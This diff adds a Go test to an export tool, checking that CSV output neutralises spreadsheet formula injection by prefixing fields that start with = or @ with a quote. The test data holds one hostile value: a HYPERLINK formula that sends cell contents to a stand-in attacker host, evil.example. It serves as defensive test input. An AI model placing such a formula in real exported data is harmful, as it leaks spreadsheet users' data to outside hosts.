@@ -158,3 +158,23 @@ func TestExportUsageErrors(t *testing.T) {
 		})
 	}
 }
+
+func TestExportCSVDefusesSpreadsheetFormulas(t *testing.T) {
+	f := newFixture(t, sandbox.Options{})
+	id := f.sb.CheckID(0)
+	f.must(0, "add", id)
+	f.must(0, "refresh", id)
+	f.must(0, "decide", id, "escalate", "--note", `=HYPERLINK("http://evil.example/?"&A1,"click")`, "--reviewer", "@mallory")
+	r := f.must(0, "export", "--format", "csv")
+	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	note, reviewer := records[1][4], records[1][5]
+	if note != `'=HYPERLINK("http://evil.example/?"&A1,"click")` || reviewer != "'@mallory" {
+		t.Errorf("a field starting with = or @ must be quoted as text: note %q, reviewer %q", note, reviewer)
+	}
+	// JSON is for programs: it keeps the note exact.
+	r = f.must(0, "export", "--format", "json")
+	mustContain(t, "json", r.stdout, `"note": "=HYPERLINK(`)
+}
